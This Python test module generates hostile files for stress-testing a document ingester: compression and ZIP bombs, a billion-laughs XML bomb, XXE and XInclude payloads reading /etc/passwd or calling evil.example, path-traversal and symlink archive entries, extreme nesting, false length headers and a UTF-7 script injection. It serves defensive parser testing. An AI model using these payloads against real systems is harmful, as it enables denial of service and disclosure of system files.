"""Files made to exhaust whoever reads them: bombs, endless nesting, lying lengths, lines without end.

Each is small or can be made quickly; `hostile_files` gives them by name, as bytes or as what writes them.
"""

import bz2
import gzip
import io
import json
import lzma
import os
import struct
import tarfile
import zipfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

from feeding import BODY
from test_formats_archives import PAGE, TEXT, tarred, zipped

DEEP = 100_000
NODES = 1_000_000
LINE = 100 << 20  # bytes
MARKS = "<p>" + BODY + "</p>"

Maker = Callable[[Path], None]


def hostile_files(names: Sequence[str] = ()) -> Iterator[tuple[str, Maker]]:
    """Give the files, or those of some names: what each is called, and what writes it to a path."""
    for makers in (_bombs, _archives, _nested, _long, _lying, _crooked):
        for name, make in makers():
            if not names or name in names:
                yield name, make


def holding(data: bytes) -> Maker:
    """Write some bytes."""

    def write(path: Path) -> None:
        path.write_bytes(data)

    return write


def _bombs() -> Iterator[tuple[str, Maker]]:
    zeros = bytes(80 << 20)
    yield "zeros.txt.gz", holding(gzip.compress(zeros, 9))
    yield "zeros.txt.bz2", holding(bz2.compress(zeros))
    yield "zeros.txt.xz", holding(lzma.compress(zeros))
    yield "zeros.zip", holding(zipped({"a.txt": zeros}))
    yield "nested.zip", holding(_wrapped(zipped({"a.txt": zeros}), 12))
    yield (
        "nested.tar.gz",
        holding(gzip.compress(tarred({"a.tar.gz": gzip.compress(tarred({"z.txt": zeros}))}))),
    )
    yield "gzip in gzip in gzip.gz", holding(_repeatedly(gzip.compress, PAGE, 40))
    yield "sixteen of sixteen.zip", holding(_fan(4, 10))
    yield "overlapping.zip", holding(_overlapping(400))
    yield "many.zip", holding(zipped({f"{number}": b"" for number in range(20_000)}))
    yield (
        "many folders.tar",
        holding(tarred({"/".join("d" * 120) + f"/{number}.txt": b"x" for number in range(500)})),
    )
    xml = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    bomb = f'<?xml version="1.0"?><!DOCTYPE nitf [<!ENTITY a0 "tide">{xml}]><nitf><body>&a11;</body></nitf>'
    yield "laughs.xml", holding(bomb.encode())
    declared = f'<!DOCTYPE rss [<!ENTITY a "{"tide" * 20_000}">]>'
    one = f"{declared}<rss><item><title>{'&a;' * 20_000}</title></item></rss>"
    yield "one large entity.rss", holding(one.encode())
    outside = '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">%b;]><rss><channel><item><title>&a;</title></item></channel></rss>'
    yield "file from outside.rss", holding(outside.encode())
    yield (
        "type from outside.xml",
        holding(b'<!DOCTYPE nitf SYSTEM "http://evil.example/x.dtd"><nitf><body>x</body></nitf>'),
    )
    yield (
        "included.xml",
        holding(b'<nitf xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></nitf>'),
    )


def _archives() -> Iterator[tuple[str, Maker]]:
    names = [
        "../../evil.txt",
        "/etc/evil.txt",
        "C:\\evil.txt",
        "a/../../evil.txt",
        "..\\evil.txt",
        "\\\\host\\evil.txt",
    ]
    yield "paths.zip", holding(zipped(dict.fromkeys(names, TEXT)))
    yield "paths.tar", holding(tarred(dict.fromkeys(names, TEXT)))
    links: list[tarfile.TarInfo] = []
    for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE):
        link = tarfile.TarInfo(f"{len(links)}.txt")
        link.type, link.linkname = kind, "/etc/passwd"
        links.append(link)
    yield "links.tar", holding(tarred({}, *links))
    link_in_zip = io.BytesIO()
    with zipfile.ZipFile(link_in_zip, "w") as archive:
        info = zipfile.ZipInfo("passwd.txt")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    yield "link.zip", holding(link_in_zip.getvalue())
    yield (
        "names.zip",
        holding(zipped({"a\u202etxt.exe": TEXT, "\x07bell.txt": TEXT, "x" * 60_000 + ".txt": TEXT})),
    )
    yield (
        "names.tar",
        holding(tarred({"caf\udce9.txt": TEXT, "n\n.txt": TEXT}, kind=tarfile.GNU_FORMAT)),
    )


def _nested() -> Iterator[tuple[str, Maker]]:
    yield "deep.html", holding(b"<html><body>" + b"<div>" * DEEP + PAGE + b"</div>" * DEEP)
    yield "deep spans.html", holding(b"<html><body><p>" + b"<b><i>" * DEEP + BODY.encode())
    yield "deep lists.html", holding(b"<html><body>" + b"<ul><li>x" * DEEP + MARKS.encode())
    yield "deep tables.html", holding(b"<html><body>" + b"<table><tr><td>" * 30_000 + MARKS.encode())
    yield "deep.xml", holding(b"<nitf>" + b"<block>" * DEEP + b"x" + b"</block>" * DEEP + b"</nitf>")
    yield "deep.json", holding(b'{"title": "x", "body": ' + b"[" * DEEP + b"]" * DEEP + b"}")
    yield "deep objects.json", holding(b'{"a":' * DEEP + b"1" + b"}" * DEEP)
    yield "deep linked data.html", holding(_linked('{"a":' * DEEP + "1" + "}" * DEEP))
    yield "many linked data.html", holding(_linked("[" + ",".join(["{}"] * NODES) + "]"))
    yield (
        "many in a graph.html",
        holding(_linked('{"@graph": [' + ",".join(['{"@type":"Article"}'] * 100_000) + "]}")),
    )
    yield "deep.eml", holding(_mail(2_000))
    yield "deep.mhtml", holding(b"Snapshot-Content-Location: https://a.example/x\n" + _mail(500))
    yield "many parts.eml", holding(_parts(50_000))
    yield (
        "deep.md",
        holding(b"> " * 50_000 + b"x\n" + b"- " * 50_000 + b"x\n" + b"[" * 50_000 + b"](" * 50_000),
    )
    yield (
        "many attributes.html",
        holding(b"<html><body><p " + b" ".join(b"a%d=x" % n for n in range(100_000)) + b">" + PAGE),
    )
    yield "many elements.html", holding(b"<html><body>" + b"<p>a <b>b</b>" * 150_000 + MARKS.encode())


def _long() -> Iterator[tuple[str, Maker]]:
    def with_hole(before: bytes, after: bytes) -> Maker:
        def write(path: Path) -> None:
            with path.open("wb") as file:
                file.write(before)
                file.seek(LINE, os.SEEK_CUR)
                file.write(after)

        return write

    yield "hole.txt", with_hole(b"Ferry ", b".")
    yield "hole.jsonl", with_hole(b'{"title": "x", "body": "', b'"}\n')
    yield "hole.json", with_hole(b'[{"body": "', b'"}]')
    yield "hole.csv", with_hole(b'title,body\n"x","', b'"\n')
    yield "hole.rss", with_hole(b"<rss><channel><item><title>", b"</title></item></channel></rss>")
    yield "hole.warc", with_hole(b"WARC/1.0\r\nWARC-Type: response\r\n", b"\r\n\r\n")
    line = b"The ferry left the quay at dawn and nobody knew why. "
    yield "one line.txt", holding(line * ((20 << 20) // len(line)))
    yield "one line over.txt", holding(line * ((LINE) // len(line)))
    yield "one word.txt", holding(b"Ferry\n\n" + b"a" * (8 << 20))
    yield "spaces.txt", holding(b"Ferry\n\nThe ferry" + b" " * (8 << 20) + b"left.")
    yield (
        "spaces.html",
        holding(b"<html><title>Ferry" + b" " * (4 << 20) + b"</title><p>" + b"\t" * (4 << 20) + PAGE),
    )
    yield "line ends.txt", holding(b"\n" * (8 << 20) + TEXT)
    yield "lines of a letter.txt", holding(b"a\n" * 400_000)
    yield "digits.txt", holding(b"Ferry\n\n" + b"1" * (4 << 20))
    yield "opened.html", holding(b"<html><p>" + b"<" * (2 << 20))
    yield "comments.html", holding(b"<html><p>" + b"<!--" * 500_000 + PAGE)
    yield "quotes.csv", holding(b"title,body\n" + b'"' * (8 << 20))
    yield "cells.csv", holding(b"title,body\n" + b"," * (4 << 20))
    yield "references.html", holding(b"<html><p>" + b"&amp;" * 500_000 + b"&#x110000;" * 100_000)


def _lying() -> Iterator[tuple[str, Maker]]:
    answer = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n"
    record = b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: %b\r\n\r\n" + answer
    for length in (b"-1", b"0", b"5", b"999999999999", b"9" * 200, b"1e9", b"0x10", b"\xb2"):
        name = length[:12].decode("latin-1")
        yield f"length {name}.warc", holding((record % length) + PAGE + b"\r\n\r\n" + (record % b"60") + PAGE)
    yield "length.warc.gz", holding(gzip.compress(record % b"99999") + gzip.compress(record % b"4") + b"junk")
    chunk = b"Transfer-Encoding: chunked\r\n\r\n" + b"7fffffff\r\nx\r\n" * 1_000
    yield "chunks.warc", holding((record % b"20000").replace(b"\r\n\r\nHTTP", b"\r\n\r\nHTTP")[:-2] + chunk)
    header = tarfile.TarInfo("a.txt")
    header.size = 8 << 30
    yield "size.tar", holding(header.tobuf() + b"x" * 4_096)
    yield "pax.tar", holding(tarred({}, _pax("9" * 30)) + TEXT)
    data = bytearray(zipped({"a.txt": TEXT}))
    at = data.rfind(b"PK\1\2")
    struct.pack_into("<II", data, at + 20, 0xFFFFFFF0, 0xFFFFFFF0)
    yield "size.zip", holding(bytes(data))
    yield "junk.txt.gz", holding(gzip.compress(TEXT) + b"\0" * 1_000 + b"junk" * 1_000)
    yield "many members.txt.gz", holding(gzip.compress(b"") * 100_000 + gzip.compress(TEXT))


def _crooked() -> Iterator[tuple[str, Maker]]:
    yield "nuls.txt", holding(b"Ferry\0\0\0" * 1_000)
    yield "nuls.json", holding(json.dumps({"title": "Fer\0ry", "body": BODY + "\0 \ud800 \ufffe"}).encode())
    yield "halves.json", holding(b'{"title": "\\ud83d", "body": "\\udc00 ' + BODY.encode() + b'"}')
    yield "overlong.txt", holding(b"Ferry\n\n" + b"\xc0\x80\xe0\x80\x80\xf8\x88\x80\x80\x80" * 1_000)
    yield "utf-32.txt", holding((b"\xff\xfe\0\0" + "Ferry".encode("utf-32-le")) * 100)
    yield (
        "utf-7.html",
        holding(b"<meta charset=utf-7><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>" + PAGE),
    )
    yield "charset.html", holding(b"<meta charset=" + b"x" * 100_000 + b">" + PAGE)
    yield "numbers.json", holding(b'{"title": ' + b"9" * 100_000 + b', "body": "x"}')
    yield (
        "number.json",
        holding(b'{"title": "x", "body": "' + BODY.encode() + b'", "published": ' + b"9" * 5_000 + b"}"),
    )
    yield "keys.json", holding(json.dumps({f"k{n}": n for n in range(200_000)}).encode())
    yield "same keys.json", holding(b'{"title": "x", ' + b'"body": "x", ' * 200_000 + b'"body": "y"}')


def _pax(size: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo("a.txt")
    info.pax_headers = {"size": size, "path": "x" * 100_000}
    return info


def _linked(script: str) -> bytes:
    return f'<html><head><script type="application/ld+json">{script}</script></head>'.encode() + PAGE


def _wrapped(data: bytes, times: int) -> bytes:
    for number in range(times):
        data = zipped({f"{number}.zip": data})
    return data


def _repeatedly(pack: Callable[[bytes], bytes], data: bytes, times: int) -> bytes:
    for _ in range(times):
        data = pack(data)
    return data


def _fan(levels: int, width: int) -> bytes:
    data = zipped({"a.txt": b"tide " * 200_000})
    for _ in range(levels):
        data = zipped({f"{number}.zip": data for number in range(width)})
    return data


def _overlapping(count: int) -> bytes:
    """Make a ZIP whose list names the same packed bytes many times."""
    data = zipped({"a.txt": b"tide " * 400_000})
    at, end = data.rfind(b"PK\1\2"), data.rfind(b"PK\5\6")
    entry = data[at:end]
    entries = b"".join(entry[:46] + b"%05d" % number + entry[51:] for number in range(count))
    closing = bytearray(data[end:])
    struct.pack_into("<HHI", closing, 8, count, count, len(entries))
    return data[:at] + entries + bytes(closing)


def _mail(depth: int) -> bytes:
    parts = [b"From: a@a.example\nTo: b@b.example\nSubject: x\nMIME-Version: 1.0\n"]
    parts += [b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(depth)]
    return b"".join(parts) + b"Content-Type: text/plain\n\n" + TEXT


def _parts(count: int) -> bytes:
    head = b"From: a@a.example\nTo: b@b.example\nSubject: x\nMIME-Version: 1.0\n"
    head += b'Content-Type: multipart/mixed; boundary="b"\n\n'
    return head + b"--b\nContent-Type: text/html\n\n<p>\n" * count + b"--b--\n"
